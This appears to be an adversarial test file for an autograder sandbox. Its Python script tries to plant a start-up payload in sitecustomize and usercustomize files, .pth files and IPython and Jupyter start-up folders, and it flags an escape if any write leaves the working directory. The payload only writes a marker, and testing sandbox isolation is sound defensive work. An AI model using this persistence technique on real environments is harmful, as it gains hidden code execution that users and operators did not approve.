# attack: plants code in the virtual environment, in IPython's and in Jupyter's start-up folders
# score: 0
# %%
import os
import site
import sys

code = "open('@OUT@/autograder_was_here', 'w').write('start-up')\n"
written = []
for folder in (
    *site.getsitepackages(),
    os.path.dirname(os.__file__),
    sys.prefix,
    sys.prefix + "/bin",
    "@HOME@/.ipython/profile_default/startup",
    "@HOME@/.jupyter",
    "@HOME@/.config/matplotlib",
    os.environ.get("IPYTHONDIR", "") + "/../../@HOME@",
):
    for name in ("sitecustomize.py", "usercustomize.py", "autograder_was_here.pth", "autograder_was_here.py", "python"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/{name}", "w") as file:
                file.write(code)
            written.append(f"{folder}/{name}")
        except OSError:
            pass
if [path for path in written if not path.startswith(os.getcwd())]:
    raise SystemError(f"ESCAPED: {written}")
